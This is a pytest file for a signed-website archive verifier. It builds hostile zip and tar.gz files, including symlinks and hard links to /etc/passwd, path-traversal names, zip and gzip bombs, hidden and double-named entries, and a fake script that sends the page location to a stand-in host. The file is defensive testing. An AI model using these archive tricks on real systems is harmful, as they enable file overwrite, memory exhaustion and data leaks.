"""Hostile .zip and .tar.gz copies: nothing is followed or extracted, every trick is a finding
(exit 1), a bomb is "could not check" (exit 3), and never a crash."""

from __future__ import annotations

import io
import stat
import struct
import tarfile
import time
import zipfile
import zlib

import pytest

from publishing.release import archives
from publishing.release.verify import Budget, Options, verify
from tests.release.helpers import DATE, Special, cli, cli_process, sha, signed_members, site_files, write_tar, write_zip

TOP = "site-2026-12-20"


def check(path, key, *extra):
    return cli("verify", path, "--public-key", key["public"], *extra)


def line(result, label, name):
    return any(l.split()[:2] == [label, name] for l in result.out.splitlines())


@pytest.mark.parametrize("writer", [write_zip, write_tar])
def test_a_good_archive_is_authentic(tmp_path, key, writer):
    path = writer(tmp_path / ("good.zip" if writer is write_zip else "good.tar.gz"), signed_members(key))
    result = check(path, key)
    assert result.code == 0, result.text
    assert f"signed on {DATE}, release 7" in result.out


def test_the_release_tool_writes_the_signed_list_first(tmp_path, key):
    from tests.release.helpers import make_site

    site = make_site(tmp_path / "site", key)
    names = sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())
    archives.write_zip(site, names, tmp_path / "a.zip", TOP, 1766188800)
    archives.write_tar_gz(site, names, tmp_path / "a.tar.gz", TOP, 1766188800)
    for path in (tmp_path / "a.zip", tmp_path / "a.tar.gz"):
        order = [entry.name for entry in archives.entries(path, Budget())]
        assert order[:2] == [f"{TOP}/SHA256SUMS", f"{TOP}/SHA256SUMS.minisig"]
        assert check(path, key).code == 0


def test_tar_symlink_replacing_a_file(tmp_path, key):
    members = [m for m in signed_members(key) if not m[0].endswith("assets/quick-exit.js")]
    members.append((f"{TOP}/assets/quick-exit.js", Special(tarfile.SYMTYPE, "/tmp/evil.js")))
    result = check(write_tar(tmp_path / "evil.tar.gz", members), key)
    assert result.code == 1, result.text
    assert line(result, "SYMLINK", "assets/quick-exit.js") and line(result, "MISSING", "assets/quick-exit.js")


def test_tar_symlink_to_the_root_of_the_disk(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/fa/documents", Special(tarfile.SYMTYPE, "/"))]
    result = check(write_tar(tmp_path / "evil.tar.gz", members), key)
    assert result.code == 1 and line(result, "SYMLINK", "fa/documents"), result.text
    assert "-> /, never followed" in result.out


def test_tar_hard_link(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/passwd.html", Special(tarfile.LNKTYPE, "/etc/passwd"))]
    result = check(write_tar(tmp_path / "evil.tar.gz", members), key)
    assert result.code == 1 and line(result, "HARDLINK", "passwd.html"), result.text


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_tar_device_or_fifo(tmp_path, key, kind):
    members = signed_members(key) + [(f"{TOP}/fa/special", Special(kind))]
    result = check(write_tar(tmp_path / "evil.tar.gz", members), key)
    assert result.code == 1 and line(result, "SPECIAL", "fa/special"), result.text


@pytest.mark.parametrize("writer", [write_zip, write_tar])
@pytest.mark.parametrize("name", [f"{TOP}/../escape.html", "/etc/cron.d/gp", f"{TOP}/fa/./x.html",
                                  f"{TOP}\\..\\x.html", f"{TOP}/caf\u0065\u0301.html"])
def test_unsafe_names(tmp_path, key, writer, name):
    members = signed_members(key) + [(name, b"x")]
    result = check(writer(tmp_path / ("e.zip" if writer is write_zip else "e.tar.gz"), members), key)
    assert result.code == 1, result.text
    assert "UNSAFE" in result.out or "OUTSIDE" in result.out


@pytest.mark.parametrize("writer", [write_zip, write_tar])
def test_duplicate_entries_with_the_fake_first(tmp_path, key, writer):
    members = signed_members(key)
    index = next(i for i, m in enumerate(members) if m[0].endswith("assets/quick-exit.js"))
    members.insert(index, (members[index][0], b"fetch('https://t.example/'+location)"))  # unzip -n keeps this one
    result = check(writer(tmp_path / ("dup.zip" if writer is write_zip else "dup.tar.gz"), members), key)
    assert result.code == 1, result.text
    assert line(result, "DUPLICATE", "assets/quick-exit.js") and line(result, "ALTERED", "assets/quick-exit.js")


@pytest.mark.parametrize("writer", [write_zip, write_tar])
def test_case_only_collision(tmp_path, key, writer):
    members = signed_members(key) + [(f"{TOP}/FA/index.html", b"<p>call +00 000</p>")]
    result = check(writer(tmp_path / ("c.zip" if writer is write_zip else "c.tar.gz"), members), key)
    assert result.code == 1 and line(result, "COLLISION", "FA/index.html"), result.text


@pytest.mark.parametrize("writer", [write_zip, write_tar])
@pytest.mark.parametrize("name", ["evil.html", "other-folder/index.html"])
def test_entry_outside_the_top_folder(tmp_path, key, writer, name):
    members = signed_members(key) + [(name, b"<p>fake</p>")]
    result = check(writer(tmp_path / ("o.zip" if writer is write_zip else "o.tar.gz"), members), key)
    assert result.code == 1 and line(result, "OUTSIDE", name), result.text


def test_zip_symlink_and_device(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/assets/link.js", b"/etc/passwd", stat.S_IFLNK | 0o777),
                                     (f"{TOP}/assets/dev", b"", stat.S_IFCHR | 0o644)]
    result = check(write_zip(tmp_path / "l.zip", members), key)
    assert result.code == 1
    assert line(result, "SYMLINK", "assets/link.js") and line(result, "SPECIAL", "assets/dev"), result.text


def test_zip_bomb_in_place_of_a_listed_file_is_could_not_check(tmp_path, key):
    members = [(n, b"\0" * (20 << 20)) if n.endswith("assets/site.css") else m for m in signed_members(key)
               for n in [m[0]]]
    result = cli_process("verify", write_zip(tmp_path / "bomb.zip", members), "--public-key", key["public"],
                         "--max-file-size", "1M")
    assert result.code == 3, result.text
    assert "COULD NOT CHECK" in result.err and "limit" in result.err and "Traceback" not in result.err


def test_zip_bomb_with_a_small_declared_size(tmp_path, key):
    """The central directory says 13 bytes; the deflate stream unpacks to 20 MB."""
    members = [(m[0], b"\0" * (20 << 20)) if m[0].endswith("assets/site.css") else m for m in signed_members(key)]
    path = write_zip(tmp_path / "liar.zip", members)
    data = bytearray(path.read_bytes())
    true = struct.pack("<I", 20 << 20)
    for at in [i for i in range(len(data)) if data[i:i + 4] == true]:
        data[at:at + 4] = struct.pack("<I", 13)
    path.write_bytes(bytes(data))
    result = cli_process("verify", path, "--public-key", key["public"], "--max-file-size", "1M")
    assert result.code in (1, 3), result.text
    assert "Traceback" not in result.err
    if result.code == 1:
        assert line(result, "DAMAGED", "assets/site.css") or line(result, "ALTERED", "assets/site.css")


def test_an_unlisted_bomb_is_reported_without_being_unpacked(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/assets/bomb.bin", b"\0" * (64 << 20))]
    budget = Budget()
    report = verify(str(write_zip(tmp_path / "x.zip", members)), Options(key["public"], budget=budget))
    assert [(f.label, f.name) for f in report.findings] == [("EXTRA", "assets/bomb.bin")]
    assert budget.used < 1 << 20  # read: the listed files only


def test_gzip_bomb_stops_at_the_total_limit(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/zzz/{i}.bin", b"\0" * (4 << 20)) for i in range(8)]
    result = check(write_tar(tmp_path / "bomb.tar.gz", members), key, "--max-total-size", "8M")
    assert result.code == 3 and ("limit" in result.err or "more than" in result.err), result.text


def test_the_signature_is_checked_before_the_files_are_read(tmp_path, key):
    members = signed_members(key)
    members[0] = (members[0][0], members[0][1].replace(sha(site_files(key)["index.html"]).encode(), b"0" * 64))
    members += [(f"{TOP}/zzz.bin", b"\0" * (32 << 20))]
    budget = Budget()
    with pytest.raises(Exception) as raised:
        verify(str(write_tar(tmp_path / "forged.tar.gz", members)), Options(key["public"], budget=budget))
    assert type(raised.value).__name__ == "NotVerified"
    assert budget.used < 64 << 10  # the list and its signature, nothing else
    result = check(tmp_path / "forged.tar.gz", key)
    assert result.code == 2 and "NOT VERIFIED" in result.err


def test_too_many_entries(tmp_path, key):
    members = signed_members(key) + [(f"{TOP}/many/{i}", b"") for i in range(300)]
    assert Budget.max_entries > 300
    report_budget = Budget(max_entries=100)
    with pytest.raises(Exception) as raised:
        verify(str(write_zip(tmp_path / "many.zip", members)), Options(key["public"], budget=report_budget))
    assert type(raised.value).__name__ == "CouldNotCheck"


@pytest.mark.parametrize("content", [b"PK\x03\x04" + b"\0" * 100, b"\x1f\x8b\x08" + b"\0" * 50, b"not an archive"])
def test_a_damaged_archive_is_could_not_check_not_a_crash(tmp_path, key, content):
    path = tmp_path / "broken.zip"
    path.write_bytes(content)
    result = cli_process("verify", path, "--public-key", key["public"])
    assert result.code == 3, result.text
    assert "Traceback" not in result.err and result.err.count("\n") == 1


def test_a_truncated_tar_gz(tmp_path, key):
    path = write_tar(tmp_path / "cut.tar.gz", signed_members(key))
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    result = cli_process("verify", path, "--public-key", key["public"])
    assert result.code in (2, 3) and "Traceback" not in result.err, result.text


def test_a_member_without_a_folder_does_not_crash(tmp_path, key):
    """The old tool raised IndexError on a member without '/' (and exited 1)."""
    path = write_zip(tmp_path / "flat.zip", [("SHA256SUMS", b""), ("index.html", b"x")])
    result = cli_process("verify", path, "--public-key", key["public"])
    assert result.code == 2 and "Traceback" not in result.err, result.text


def test_zlib_bomb_helper_is_deflated():
    # the bombs above are small on disk: 20 MB of zeros deflate to ~20 KB
    assert len(zlib.compress(b"\0" * (20 << 20), 9)) < 64 << 10


def deflated_zeros(megabytes: int) -> bytes:
    """A raw deflate stream of that many MB of zeros, made in milliseconds: one fully flushed
    1 MB block, repeated (each block stands alone), then an empty final block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * (1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15)
    return block * megabytes + end.compress(b"") + end.flush()


def test_an_unlisted_bomb_is_never_unpacked(tmp_path, key):
    """A 3 MB member that unpacks to 3 GB (the review's zipbomb.zip): not in the signed list, so
    it is reported as EXTRA without being read (the old tool ran out of memory on it)."""
    path = write_zip(tmp_path / "bomb.zip", signed_members(key))
    with zipfile.ZipFile(path, "a") as archive:  # stored: its bytes are the deflate stream as it is
        archive.writestr(zipfile.ZipInfo(f"{TOP}/assets/bomb.bin", (2026, 12, 20, 0, 0, 0)), deflated_zeros(3000))
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(f"{TOP}/assets/bomb.bin")
    local = info.header_offset
    central = data.rindex(b"PK\x01\x02")  # the last central directory record: bomb.bin
    for at, method_at, size_at in ((local, 8, 22), (central, 10, 24)):
        data[at + method_at:at + method_at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
        data[at + size_at:at + size_at + 4] = struct.pack("<I", 3000 << 20)
    path.write_bytes(bytes(data))
    started = time.monotonic()
    result = cli_process("verify", path, "--public-key", key["public"])
    assert result.code == 1 and line(result, "EXTRA", "assets/bomb.bin"), result.text
    assert "Traceback" not in result.err and time.monotonic() - started < 20


def test_a_forged_list_is_refused_before_the_rest_is_read(tmp_path, key):
    """A tar.gz whose signed list does not match its signature, followed by a member that breaks
    any reader: the signature is checked first, so the answer is 2, not a crash."""
    members = signed_members(key)
    members[0] = (members[0][0], members[0][1].replace(sha(site_files(key)["index.html"]).encode(), b"0" * 64))
    path = write_tar(tmp_path / "forged.tar.gz", members + [(f"{TOP}/zzz.bin", b"\1" * (1 << 20))])
    raw = tarfile.open(path).getmembers()[-1].offset  # cut the last member's data short
    import gzip as _gzip

    plain = _gzip.decompress(path.read_bytes())
    path.write_bytes(_gzip.compress(plain[: raw + 512 + 4096], mtime=0))
    result = cli_process("verify", path, "--public-key", key["public"])
    assert result.code == 2 and "NOT VERIFIED" in result.err and "Traceback" not in result.err, result.text


def test_a_zip_without_unix_file_types_is_fine(tmp_path, key):
    """Zips made on Windows, or by zipfile.writestr(name), carry no file-type bits."""
    members = [(name, data, 0o600) for name, data in signed_members(key)]
    assert check(write_zip(tmp_path / "plain.zip", members), key).code == 0


def test_a_zip_entry_hidden_from_its_directory(tmp_path, key):
    """A local entry that the central directory does not list: Python (and this check) never sees
    it, but a streaming unpacker (bsdtar < file.zip) unpacks it."""
    hidden = write_zip(tmp_path / "hidden.zip", [(f"{TOP}/assets/evil.js", b"steal()")])
    with zipfile.ZipFile(hidden) as archive:
        local = hidden.read_bytes()[:archive.start_dir]
    good = write_zip(tmp_path / "good.zip", signed_members(key)).read_bytes()
    path = tmp_path / "ambiguous.zip"
    path.write_bytes(local + good)
    with zipfile.ZipFile(path) as archive:  # zipfile still opens it, and lists only the good entries
        assert f"{TOP}/assets/evil.js" not in archive.namelist()
    result = check(path, key)
    assert result.code == 1 and "that no entry accounts for" in result.out, result.text


def test_a_zip_entry_with_a_second_unicode_name(tmp_path, key):
    """Info-ZIP's Unicode Path field: unzip would write the authentic bytes of site.css over
    quick-exit.js, while every name and hash looks right."""
    path = write_zip(tmp_path / "two-names.zip", signed_members(key))
    second = f"{TOP}/assets/quick-exit.js".encode()
    with zipfile.ZipFile(path) as archive:
        infos = {info.filename: (info, archive.read(info)) for info in archive.infolist()}
    with zipfile.ZipFile(tmp_path / "rewritten.zip", "w", zipfile.ZIP_DEFLATED) as out:
        for name, (info, data) in infos.items():
            if name.endswith("assets/site.css"):
                info.extra = struct.pack("<HHB", 0x7075, 5 + len(second), 1) + struct.pack("<I", zlib.crc32(name.encode())) + second
            out.writestr(info, data)
    result = check(tmp_path / "rewritten.zip", key)
    assert result.code == 1 and "a second name inside the entry" in result.out, result.text


def test_a_zip_written_as_a_stream_is_fine(tmp_path, key):
    """zip tools writing to a pipe put a data descriptor after each entry: no false alarm."""
    class Pipe(io.RawIOBase):
        def __init__(self):
            self.data = bytearray()

        def writable(self):
            return True

        def write(self, b):
            self.data += b
            return len(b)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in signed_members(key):
            with archive.open(name, "w") as out:
                out.write(data)
    path = tmp_path / "streamed.zip"
    path.write_bytes(bytes(pipe.data))
    with zipfile.ZipFile(path) as archive:
        assert all(info.flag_bits & 0x08 for info in archive.infolist())
    assert check(path, key).code == 0
